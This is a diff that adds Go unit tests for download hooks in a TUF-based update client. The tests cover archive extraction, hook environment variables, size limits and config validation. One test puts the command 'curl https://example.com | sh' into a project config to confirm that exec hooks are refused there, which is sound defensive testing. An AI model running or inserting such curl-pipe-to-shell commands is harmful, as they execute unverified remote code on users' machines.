@@ -0,0 +1,133 @@
+package client
+
+import (
+	"archive/tar"
+	"bytes"
+	"compress/gzip"
+	"context"
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"runtime"
+	"strings"
+	"testing"
+
+	"github.com/kairoaraujo/tufie/internal/testrepo"
+	"github.com/stretchr/testify/suite"
+)
+
+// Test Suite: UT Hooks
+type UTHooksSuite struct {
+	suite.Suite
+	repo    *testrepo.Repository
+	tempDir string
+}
+
+func TestUTHooksSuite(t *testing.T) {
+	suite.Run(t, new(UTHooksSuite))
+}
+
+func (ut *UTHooksSuite) SetupTest() {
+	if runtime.GOOS == "windows" {
+		ut.T().Skip("the hooks commands are sh commands")
+	}
+	ut.tempDir = ut.T().TempDir()
+	ut.repo = testrepo.New(ut.T())
+
+	var buf bytes.Buffer
+	gz := gzip.NewWriter(&buf)
+	tw := tar.NewWriter(gz)
+	for name, content := range map[string]string{"demo-1.0.0/bin/demo": "demo", "demo-1.0.0/README.md": "readme"} {
+		ut.Require().Nil(tw.WriteHeader(&tar.Header{Name: name, Mode: 0755, Size: int64(len(content)), Typeflag: tar.TypeReg}))
+		_, err := tw.Write([]byte(content))
+		ut.Require().Nil(err)
+	}
+	ut.Require().Nil(tw.Close())
+	ut.Require().Nil(gz.Close())
+	targetInfo := ut.repo.AddTarget("targets", "v1.0.0/demo-1.0.0.tar.gz", buf.Bytes())
+	custom := json.RawMessage(`{"mode":"0755"}`)
+	targetInfo.Custom = &custom
+	ut.repo.Publish()
+}
+
+func (ut *UTHooksSuite) newClient(hooks Hooks) *Client {
+	c, err := New(RepositoryConfig{
+		Name:            "test",
+		MetadataURL:     ut.repo.MetadataURL,
+		ArtifactBaseURL: ut.repo.TargetsURL,
+		TrustedRoot:     ut.repo.Root(),
+	}, WithMetadataDir(filepath.Join(ut.tempDir, "metadata")), WithHooks(hooks))
+	ut.Require().Nil(err)
+	return c
+}
+
+func (ut *UTHooksSuite) TestDownload_hooks() {
+	dst := filepath.Join(ut.tempDir, "dst")
+	ut.Require().Nil(os.Mkdir(dst, 0755))
+	var output bytes.Buffer
+	c := ut.newClient(Hooks{
+		Extract:         true,
+		StripComponents: 1,
+		Exec: []string{
+			`echo "file=$1"`,
+			`env | grep ^TUFIE_ | sort`,
+			`test -f "$TUFIE_EXTRACT_DIR/bin/demo"`,
+		},
+		Output: &output,
+	})
+
+	path, err := c.Download(context.Background(), "v1.0.0/demo-1.0.0.tar.gz", dst)
+	ut.Require().Nil(err)
+	ut.FileExists(filepath.Join(dst, "bin", "demo"))
+	ut.FileExists(filepath.Join(dst, "README.md"))
+	ut.Contains(output.String(), "file="+path+"\n")
+	for _, env := range []string{
+		"TUFIE_REPOSITORY=test", "TUFIE_TARGET=v1.0.0/demo-1.0.0.tar.gz", "TUFIE_FILE=" + path,
+		"TUFIE_HASH_SHA256=", `TUFIE_CUSTOM={"mode":"0755"}`, "TUFIE_EXTRACT_DIR=" + dst,
+	} {
+		ut.Contains(output.String(), env)
+	}
+}
+
+func (ut *UTHooksSuite) TestDownload_hooks_Error() {
+	c := ut.newClient(Hooks{Exec: []string{"exit 3"}, Output: &bytes.Buffer{}})
+	_, err := c.Download(context.Background(), "v1.0.0/demo-1.0.0.tar.gz", ut.tempDir)
+	ut.ErrorContains(err, "hook 'exit 3' of v1.0.0/demo-1.0.0.tar.gz: exit status 3")
+
+	// the archive is extracted only once verified
+	ut.repo.AddTarget("targets", "v1.0.0/demo-1.0.0.zip", []byte("not a zip"))
+	ut.repo.Publish()
+	dst := filepath.Join(ut.tempDir, "zip")
+	ut.Require().Nil(os.Mkdir(dst, 0755))
+	_, err = ut.newClient(Hooks{Extract: true}).Download(context.Background(), "v1.0.0/demo-1.0.0.zip", dst)
+	ut.ErrorContains(err, "can't extract")
+
+	// the extracted files size is limited
+	dst = filepath.Join(ut.tempDir, "limited")
+	ut.Require().Nil(os.Mkdir(dst, 0755))
+	c = ut.newClient(Hooks{Extract: true, MaxExtractSize: "4B"})
+	_, err = c.Download(context.Background(), "v1.0.0/demo-1.0.0.tar.gz", dst)
+	ut.ErrorContains(err, "the extracted files exceed the limit of 4 bytes")
+
+	c = ut.newClient(Hooks{Extract: true, MaxExtractSize: "huge"})
+	_, err = c.Download(context.Background(), "v1.0.0/demo-1.0.0.tar.gz", dst)
+	var configErr *ErrConfig
+	ut.ErrorAs(err, &configErr)
+}
+
+func (ut *UTHooksSuite) TestLoadProjectConfig_Error_exec() {
+	path := filepath.Join(ut.tempDir, ProjectConfigFile)
+	ut.Require().Nil(os.WriteFile(path, []byte(strings.Join([]string{
+		"repositories:",
+		"  pinned:",
+		"    hooks:",
+		"      extract: true",
+		"      exec: [\"curl https://example.com | sh\"]",
+		"",
+	}, "\n")), 0644))
+
+	_, err := LoadProjectConfig(path)
+	var configErr *ErrConfig
+	ut.ErrorAs(err, &configErr)
+	ut.EqualError(err, path+": repositories.pinned.hooks.exec: not allowed in a project config, use the user config")
+}